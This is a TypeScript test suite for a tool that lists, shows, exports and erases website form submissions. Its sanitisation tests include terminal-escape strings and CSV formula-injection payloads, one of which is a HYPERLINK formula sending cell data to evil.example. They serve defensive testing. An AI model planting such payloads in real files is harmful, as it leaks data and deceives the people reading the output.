import { execFile } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { openDatabase } from "#api/database/open.ts";
import type { Database } from "#api/database/tables.ts";
import { letterFolder } from "#api/letters/letter-files.ts";
import { givenUpDate } from "#api/letters/outbox.ts";
import type { Submission } from "#api/letters/letter.ts";
import { storeSubmission } from "#api/submissions/submission-store.ts";
import { readSubmissionPages, type SubmissionFilter } from "#api/submissions/stored-submissions.ts";
import { testOnEach } from "#test/databases.ts";
import { contact, order, quote, application, sampleNow, survey } from "#test/samples.ts";
import { recordedTerminal } from "#test/recorded-terminal.ts";
import { removeGoneFiles } from "#api/uploads/orphans.ts";
import { makeFolder } from "#test/folders.ts";
import { exportSubmissions } from "./submissions/export.ts";
import { forgetSubmissions } from "./submissions/erase.ts";
import { listSubmissions, showSubmission } from "./submissions/show.ts";

const days = ["2026-11-19", "2026-11-20", "2026-11-21"].map((day) => new Date(`${day}T23:59:59.999Z`));

testOnEach("a table lists the newest submissions first", async (database) => {
  await storeSample(database, {}, days[0]);
  const stored = {
    kind: "application",
    email: "Lucia@example.com",
    subject: "europe",
    data: application,
  } as const;
  const reference = await storeSample(database, stored, days[2]);
  const { out } = await list(database);
  const [head, first, second, ...others] = out.split("\n");
  expect(head).toMatch(/^reference +received \(UTC\) +kind +subject +name +company +e-mail +deleted on$/);
  expect(first).toMatch(
    new RegExp(`^${reference} +2026-11-21 23:59 +application +europe +Lucía Gómez +lucia@`),
  );
  expect(second).toMatch(/^CT-.* Ana Pérez +Químicas del Sur +ana@example\.com +2028-11-21$/);
  expect(others).toEqual([""]);
});

testOnEach("a list is filtered by kind, address and days, both days included", async (database) => {
  const [old, middle, young] = [
    await storeSample(database, { kind: "order", data: order }, days[0]),
    await storeSample(database, { email: "Ming@Example.com", kind: "survey", data: survey }, days[1]),
    await storeSample(database, {}, days[2]),
  ];
  const references = async (filter: SubmissionFilter) =>
    (await list(database, { filter })).out.match(/^[A-Z]{2}-\S+/gm);
  expect(await references({})).toEqual([young, middle, old]);
  expect(await references({ kind: "survey" })).toEqual([middle]);
  expect(await references({ email: " MING@example.com" })).toEqual([middle]);
  expect(await references({ since: "2026-11-20" })).toEqual([young, middle]);
  expect(await references({ before: "2026-11-21" })).toEqual([middle, old]);
  expect(await references({ since: "2026-11-20", before: "2026-11-21" })).toEqual([middle]);
  await expect(list(database, { filter: { kind: "quote" } })).rejects.toMatchObject({ exit: "nothing" });
});

testOnEach("a shortened list says how many submissions there are", async (database) => {
  for (const day of days) await storeSample(database, {}, day);
  const { out, err } = await list(database, { limit: 2 });
  expect(out.trim().split("\n")).toHaveLength(3);
  expect(err).toBe("\nThe newest 2 of 3. --limit 3 lists all.\n");
  expect((await list(database, { limit: 3 })).err).toBe("");
});

testOnEach("a table is cut on a terminal, and complete in a pipe", async (database) => {
  const company = "A company with a name that has no end ".repeat(4).trim();
  await storeSample(database, { data: { ...contact, company } });
  expect((await list(database, { isTTY: true })).out).toContain("A company with a name that has no e…  ana@");
  expect((await list(database)).out).toContain(company);
});

testOnEach("text typed by a visitor cannot move the cursor or hide output", async (database) => {
  const name = "\u001B]0;title\u0007Ana\u009B31m\u202Egpj.exe";
  const data = { ...contact, name, message: `a\r\nb${name}`, typed: { [name]: "1" } };
  const reference = await storeSample(database, { data });
  const told = [await list(database), await show(database, { reference })];
  for (const { out } of told) expect(out).not.toMatch(/(?!\n)[\p{Cc}\u202E]/u);
  expect(told[0]?.out).toContain("]0;titleAna31mgpj.exe");
});

testOnEach("a submission is shown with its fields, files, letters and their state", async (database) => {
  await addUpload(database, "file-1", "route survey.pdf");
  const data = { ...survey, notes: "Gate 3.\nAsk for the shift leader." };
  const reference = await storeSample(database, {
    kind: "survey",
    subject: "cargo",
    data,
    files: ["file-1"],
  });
  const { out } = await show(database, { reference: ` ${reference.toLowerCase()}` });
  expect(out).toMatch(new RegExp(`^reference +${reference}\nkind +survey\n`));
  expect(out).toMatch(
    /^slots +date 2026-12-02, from 09:00, to 12:00; date 2026-12-03, from 14:00, to 16:00$/m,
  );
  expect(out).toMatch(/^time zone +Europe\/Madrid$/m);
  expect(out).toMatch(/^notes +Gate 3\.\n {9,}Ask for the shift leader\.$/m);
  expect(out).toMatch(
    /^file +route survey\.pdf \(pdf, 2 kB\); anyone with the link can open it until [\d: -]{16} UTC:\n +https:\/\/site\.example\/file-1\?\d+$/m,
  );
  const letter = "“Your message” to ana@example.com:";
  expect(out).toMatch(new RegExp(`^letter +${letter} waiting$`, "m"));

  await database.updateTable("outbox").set({ attempts: 2, last_error: "550 no such user" }).execute();
  expect((await show(database, { reference })).out).toContain(
    `${letter} waiting, next attempt 2026-11-21 12:00: 550 no such user\n`,
  );
  await database.updateTable("outbox").set({ send_after: givenUpDate }).execute();
  expect((await show(database, { reference })).out).toContain(`${letter} given-up: 550 no such user\n`);
  const sent = { sent_at: "2026-11-21T12:05:00.000Z", last_error: null };
  await database.updateTable("outbox").set(sent).execute();
  expect((await show(database, { reference })).out).toContain(`${letter} sent 2026-11-21 12:05\n`);
});

testOnEach("a field's typed text is shown next to its value", async (database) => {
  const typed = { phone: "0034 600.000.000", "pieces.0.length": "12,5" };
  const reference = await storeSample(database, { data: { ...contact, typed } });
  const { out } = await show(database, { reference });
  expect(out).toMatch(/^phone +\+34 600 000 000$/m);
  expect(out).toMatch(/^phone, as typed +0034 600\.000\.000\npieces 1 length, as typed +12,5$/m);
  const [head = [], row = []] = parseCsv(await exported(database, "csv"));
  expect(row[head.indexOf("typed")]).toBe("phone 0034 600.000.000, pieces 1 length 12,5");
});

testOnEach("an unknown reference is not found", async (database) => {
  await expect(show(database, { reference: "CT-2222-2222" })).rejects.toMatchObject({
    exit: "nothing",
    message: "CT-2222-2222: there is no such submission",
  });
});

testOnEach("pages contain every row once, even with equal times", async (database) => {
  const rows = Array.from({ length: 1234 }, (_, index) => rowOf(index, index % 3 === 0 ? days[0] : days[1]));
  for (let from = 0; from < rows.length; from += 500) {
    await database
      .insertInto("submissions")
      .values(rows.slice(from, from + 500))
      .execute();
  }
  const sizes: number[] = [];
  const seen = new Set<string>();
  const times: string[] = [];
  for await (const page of readSubmissionPages(database, {})) {
    sizes.push(page.length);
    for (const { reference, receivedAt } of page) {
      seen.add(reference);
      times.push(receivedAt);
    }
    // What comes meanwhile is newer than all of it.
    await storeSample(database, {}, days[2]);
  }
  expect(sizes).toEqual([500, 500, 234]);
  expect(seen.size).toBe(1234);
  expect(times).toEqual(times.toSorted().toReversed());
});

testOnEach(
  "CSV has a row per submission, a column per field, and quotes as in RFC 4180",
  async (database) => {
    await storeSample(database, { data: { ...contact, message: 'A "tank",\nor two' } }, days[1]);
    await storeSample(database, { kind: "quote", data: quote }, days[0]);
    const csv = await exported(database, "csv");
    expect(csv.startsWith("\uFEFFreference,kind,subject,receivedAt,deleteOn,locale,email,topic,name,")).toBe(
      true,
    );
    const [head = [], first = [], second = [], ...others] = parseCsv(csv);
    expect(others).toEqual([]);
    expect(new Set([head.length, first.length, second.length]).size).toBe(1);
    const cell = (row: string[], name: string) => row[head.indexOf(name)];
    expect(cell(first, "message")).toBe('A "tank",\nor two');
    expect(cell(first, "quantity")).toBe("");
    expect(cell(second, "quantity")).toBe("42");
    expect(cell(second, "extras")).toBe("insurance");
    expect(cell(second, "marketing")).toBe("no");
    expect(csv.replace(/"[^"]*"/g, "").replaceAll("\r\n", "")).not.toContain("\n");
  },
);

testOnEach("a spreadsheet computes nothing that a visitor typed", async (database) => {
  const formulas = ['=HYPERLINK("https://evil.example?"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "＝1"];
  for (const name of formulas) await storeSample(database, { data: { ...contact, name } });
  const [head = [], ...rows] = parseCsv(await exported(database, "csv"));
  const names = rows.map((row) => row[head.indexOf("name")]);
  expect(names.toSorted()).toEqual(formulas.map((text) => `'${text.replace("\t", " ")}`).toSorted());
  expect(rows[0]?.[head.indexOf("phone")]).toBe("'+34 600 000 000");
});

testOnEach("JSON contains everything as typed", async (database) => {
  const reference = await storeSample(database, { kind: "survey", email: survey.email, data: survey });
  for (let count = 0; count < 2; count += 1) await storeSample(database, {}, days[0]);
  const all = JSON.parse(await exported(database, "json")) as {
    reference: string;
    data: object;
  }[];
  expect(all).toHaveLength(3);
  expect(all.find((each) => each.reference === reference)).toMatchObject({ kind: "survey", data: survey });
});

testOnEach(
  "an export is private to the user, named after its contents, and overwrites no file",
  async (database) => {
    await storeSample(database);
    const file = join(makeFolder(), "all.csv");
    const { terminal, out } = recordedTerminal();
    const write = (given: { file: string; filter?: SubmissionFilter }) =>
      exportSubmissions(database, { filter: {}, ...given }, terminal);
    await write({ file });
    expect(out()).toBe(`${file}: 1 submission written.\n`);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    await expect(write({ file })).rejects.toThrow("exists already");
    await expect(write({ file: "all.txt" })).rejects.toMatchObject({ exit: "wrongUsage" });
    await expect(write({ file: `${file}.json`, filter: { kind: "order" } })).rejects.toMatchObject({
      exit: "nothing",
    });
    expect(readdirSync(join(file, ".."))).toEqual(["all.csv"]);
  },
);

testOnEach(
  "submissions that arrive during an export are left for the next one, whatever the filter",
  async (database) => {
    await storeSample(database, {}, new Date("2100-01-01T00:00:00Z"));
    const file = join(makeFolder(), "all.csv");
    const write = exportSubmissions(
      database,
      { file, filter: { before: "2101-01-01" } },
      recordedTerminal().terminal,
    );
    await expect(write).rejects.toMatchObject({ exit: "nothing" });
  },
);

testOnEach("forgetting an address deletes its letters and files, and nobody else's", async (database) => {
  await addUpload(database, "file-1");
  await addUpload(database, "file-2");
  await storeSample(database, { files: ["file-1"] });
  await storeSample(database, {});
  const other = await storeSample(database, { email: "ming@example.com", files: ["file-2"] });
  const { out, removed } = await forget(database, { email: "ANA@example.com", yes: true });
  expect(out).toBe("Deleted 2 submissions, 2 letters, 1 file.\n");
  expect(removed).toEqual(["file-1"]);
  expect(await referencesIn(database, "submissions")).toEqual([other]);
  expect(await referencesIn(database, "outbox")).toEqual([other]);
  expect(await referencesIn(database, "uploads")).toEqual([other]);
  await expect(forget(database, { email: "ana@example.com", yes: true })).rejects.toMatchObject({
    exit: "nothing",
  });
});

testOnEach("forgetting a reference deletes that submission only", async (database) => {
  const [gone, stays] = [await storeSample(database), await storeSample(database)];
  expect((await forget(database, { reference: gone.toLowerCase(), yes: true })).out).toBe(
    "Deleted 1 submission, 1 letter, no files.\n",
  );
  expect(await referencesIn(database, "submissions")).toEqual([stays]);
});

testOnEach("a store that is down keeps only its files from being forgotten", async (database) => {
  await addUpload(database, "file-1");
  await addUpload(database, "file-2");
  const reference = await storeSample(database, { files: ["file-1", "file-2"] });
  const dataDir = makeFolder();
  const letter = join(letterFolder(dataDir), `2026-11-21T12-00-00_${reference}_1.eml`);
  mkdirSync(letterFolder(dataDir));
  writeFileSync(letter, "");
  let isDown = true;
  const removed: string[] = [];
  const store = {
    async remove(id: string) {
      if (isDown) throw new Error("no bucket");
      removed.push(id);
    },
  };
  const forgetting = forgetSubmissions(
    { database, store, dataDir },
    { reference, yes: true },
    recordedTerminal().terminal,
  );
  await expect(forgetting).rejects.toMatchObject({
    exit: "failed",
    message: expect.stringMatching(/are erased, but not all of their files could be deleted .*: no bucket$/),
  });
  expect(existsSync(letter)).toBe(false);
  // As the site does.
  isDown = false;
  await removeGoneFiles({ database, store });
  expect(removed.toSorted()).toEqual(["file-1", "file-2"]);
  expect(await referencesIn(database, "uploads")).toEqual([]);
});

testOnEach("nothing is forgotten without confirmation", async (database) => {
  const reference = await storeSample(database);
  const refused = { exit: "nothing", message: expect.stringContaining("--yes") };
  for (const answer of [undefined, "", "\n", "no\n", "yeah\n"]) {
    await expect(forget(database, { reference, yes: false, answer })).rejects.toMatchObject(refused);
  }
  expect(await referencesIn(database, "submissions")).toEqual([reference]);
  const { out, err } = await forget(database, { reference, yes: false, answer: "Y\n" });
  expect(err).toContain(`Delete 1 submission of ${reference} for good? [y/N]`);
  expect(out).toBe("Deleted 1 submission, 1 letter, no files.\n");
});

testOnEach("forget needs either a reference or an address", async (database) => {
  const usage = { exit: "wrongUsage" };
  await expect(forget(database, { yes: true })).rejects.toMatchObject(usage);
  const both = { reference: "CT-1", email: "ana@example.com", yes: true };
  await expect(forget(database, both)).rejects.toMatchObject(usage);
});

test("the program itself lists, shows, forgets and erases again", { timeout: 60_000 }, async () => {
  const dataDir = join(makeFolder(), "data");
  const fileId = "0123456789abcdefghijklmnopqrstuv";
  const database = await openDatabase({ dataDir });
  await addUpload(database, fileId, "cv.pdf", "cv");
  const stored = {
    kind: "application",
    email: application.email,
    data: application,
    files: [fileId],
  } as const;
  const reference = await storeSample(database, stored);
  await database.destroy();
  mkdirSync(join(dataDir, "uploads"));
  writeFileSync(join(dataDir, "uploads", fileId), "a CV");
  const run = (...args: string[]) => spawnProgram(dataDir, args);

  const [shown, listed] = await Promise.all([run("show", reference), run("list", "--until", "2026-11-20")]);
  expect(shown).toMatchObject({
    code: 0,
    out: expect.stringMatching(
      new RegExp(`^ +http://localhost:3000/global/files/${fileId}\\?expires=\\d+&signature=[\\w-]{43}$`, "m"),
    ) as string,
  });
  expect(listed).toEqual({ code: 3, out: "", err: "No submission matches.\n" });
  expect(await run("forget", reference, "--yes")).toMatchObject({
    code: 0,
    out: "Deleted 1 submission, 1 letter, 1 file.\n",
  });
  expect(existsSync(join(dataDir, "uploads", fileId))).toBe(false);
  expect(await run("erase-again")).toMatchObject({
    code: 0,
    out: "Erased again: nothing (1 erasure remembered).\n",
  });
});

/** Stores a submission with one letter to its sender, and answers with its reference. */
async function storeSample(
  database: Database,
  given: Partial<Submission> = {},
  now = sampleNow,
): Promise<string> {
  const submission: Submission = {
    kind: "contact",
    email: "ana@example.com",
    subject: "quote",
    locale: "es",
    data: contact,
    files: [],
    deleteOn: "2028-11-21",
    ...given,
  };
  const { reference } = await storeSubmission(database, submission, {
    key: crypto.randomUUID(),
    now,
    dataDir: "unused",
    letters: () => [{ to: [submission.email], subject: "Your message", text: "We have it." }],
  });
  return reference;
}

/** An uploaded file that a submission can claim. */
async function addUpload(
  database: Database,
  id: string,
  name = "list.pdf",
  kind = "document",
): Promise<void> {
  const created_at = sampleNow.toISOString();
  const upload = { id, kind, name, type: "pdf", size: 2048, created_at, reference: null };
  await database.insertInto("uploads").values(upload).execute();
}

async function list(
  database: Database,
  {
    filter = {},
    limit = 50,
    isTTY = false,
  }: { filter?: SubmissionFilter; limit?: number; isTTY?: boolean } = {},
) {
  const { terminal, out, err } = recordedTerminal({ isTTY });
  await listSubmissions(database, { filter, limit }, terminal);
  return { out: out(), err: err() };
}

async function show(database: Database, { reference }: { reference: string }) {
  const { terminal, out } = recordedTerminal();
  const link = (id: string, until: Date) => `https://site.example/${id}?${until.getTime()}`;
  await showSubmission(database, reference, terminal, link);
  return { out: out() };
}

async function forget(
  database: Database,
  { answer, ...given }: { reference?: string; email?: string; yes: boolean; answer?: string },
) {
  const { terminal, out, err } = recordedTerminal({ answer });
  const removed: string[] = [];
  const store = { remove: async (id: string) => void removed.push(id) };
  await forgetSubmissions({ database, store, dataDir: makeFolder() }, given, terminal);
  return { out: out(), err: err(), removed };
}

async function exported(database: Database, format: "csv" | "json"): Promise<string> {
  const file = join(makeFolder(), `export.${format}`);
  await exportSubmissions(database, { file, filter: {} }, recordedTerminal().terminal);
  return readFileSync(file, "utf8");
}

async function referencesIn(database: Database, table: "submissions" | "outbox" | "uploads") {
  const rows = await database.selectFrom(table).select("reference").execute();
  return rows.map(({ reference }) => reference);
}

function rowOf(index: number, received = new Date()) {
  return {
    reference: `CT-${String(index).padStart(5, "0")}`,
    kind: "contact" as const,
    idempotency_key: `key-${index}`,
    content_hash: "",
    email: "ana@example.com",
    subject: "quote",
    locale: "es" as const,
    data: "{}",
    received_at: received.toISOString(),
    delete_on: "2028-11-21",
  };
}

/** RFC 4180, read character by character. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [[""]];
  let isQuoted = false;
  for (const [character] of csv.slice(1).matchAll(/""|\r\n|[^]/g)) {
    const row = rows.at(-1) ?? [];
    if (character === '"') isQuoted = !isQuoted;
    else if (character === "," && !isQuoted) row.push("");
    else if (character === "\r\n" && !isQuoted) rows.push([""]);
    else row[row.length - 1] += character === '""' ? '"' : character;
  }
  return rows.slice(0, -1);
}

function spawnProgram(dataDir: string, args: string[]): Promise<{ code: number; out: string; err: string }> {
  return new Promise((resolve) => {
    const child = execFile(
      process.execPath,
      ["cli/submissions/main.ts", ...args],
      { env: { PATH: process.env["PATH"], DATA_DIR: dataDir } },
      (_error, out, err) => resolve({ code: child.exitCode ?? -1, out, err }),
    );
  });
}
